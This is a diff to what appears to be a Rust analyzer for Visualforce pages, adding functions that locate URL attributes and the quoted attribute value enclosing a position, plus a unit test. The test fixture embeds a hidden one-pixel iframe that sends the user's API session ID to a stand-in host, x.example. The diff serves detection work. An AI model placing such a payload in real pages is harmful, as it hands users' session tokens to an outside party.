@@ -165,7 +165,7 @@ impl Regions {
         if inside(&self.scripts) {
             return Place::Script;
         }
-        match crate::dataflow::markup::enclosing_attribute(text, at) {
+        match enclosing_attribute(text, at) {
             Some((tag, attr, value_start)) => {
                 let lt = text[..at].rfind('<').unwrap_or(0);
                 let end = tag_end(text, lt).unwrap_or(text.len());
@@ -394,6 +394,61 @@ fn compares(arg: &str) -> bool {
     [" and ", " or ", "&gt;", "&lt;"].iter().any(|w| lower.contains(w))
 }
 
+/// Visualforce attributes that load or submit to a URL.
+pub(crate) fn url_attribute(tag: &str, attr: &str) -> bool {
+    matches!(attr, "action" | "src" | "href" | "data" | "formaction")
+        || (matches!(tag, "apex:outputlink" | "lightning:formattedurl" | "ui:outputurl") && attr == "value")
+        || (tag == "meta" && attr == "content")
+}
+
+/// The tag, attribute name (both lower-case) and value start of the attribute value that
+/// contains `at`, if `at` is inside a start tag's quoted attribute value.
+pub(crate) fn enclosing_attribute(text: &str, at: usize) -> Option<(String, String, usize)> {
+    let before = &text[..at];
+    let lt = before.rfind('<')?;
+    // Inside text content, not a tag, when a `>` closes the tag before `at` (merge fields may
+    // contain `>` only as an operator, which Visualforce writes as `&gt;`).
+    if before[lt..].contains('>') {
+        return None;
+    }
+    let tag_text = &before[lt + 1..];
+    let tag: String = tag_text
+        .chars()
+        .take_while(|c| !c.is_whitespace() && *c != '/')
+        .collect::<String>()
+        .to_ascii_lowercase();
+    // The attribute value we are in starts at the last quote preceded by `=`.
+    let bytes = before.as_bytes();
+    let mut i = at;
+    while i > lt {
+        i -= 1;
+        let c = bytes[i];
+        if (c == b'"' || c == b'\'') && i > 0 {
+            let mut j = i;
+            while j > lt && bytes[j - 1].is_ascii_whitespace() {
+                j -= 1;
+            }
+            if j > lt && bytes[j - 1] == b'=' {
+                let mut k = j - 1;
+                while k > lt && bytes[k - 1].is_ascii_whitespace() {
+                    k -= 1;
+                }
+                let name_end = k;
+                while k > lt && !bytes[k - 1].is_ascii_whitespace() {
+                    k -= 1;
+                }
+                let name = before[k..name_end].to_ascii_lowercase();
+                // The quote must not be closed between the value start and `at`.
+                if !before[i + 1..].contains(c as char) {
+                    return Some((tag, name, i + 1));
+                }
+                return None;
+            }
+        }
+    }
+    None
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -500,5 +555,17 @@ mod tests {
         assert!(!raw("a &gt; p", "p"));
         // Called names and literals are not references.
         assert_eq!(references("IF(true, x, 'y z')").len(), 1);
+    }
+
+    #[test]
+    fn attributes() {
+        let t = r#"<apex:page><iframe width="1" src="https://x.example/?s={!$Api.Session_ID}"/> <p>{!$Api.Session_ID}</p></apex:page>"#;
+        let at = t.find("$Api").unwrap_or(0);
+        assert_eq!(
+            enclosing_attribute(t, at).map(|(t, a, _)| (t, a)),
+            Some(("iframe".to_string(), "src".to_string()))
+        );
+        let at = t.rfind("$Api").unwrap_or(0);
+        assert_eq!(enclosing_attribute(t, at), None);
     }
 }
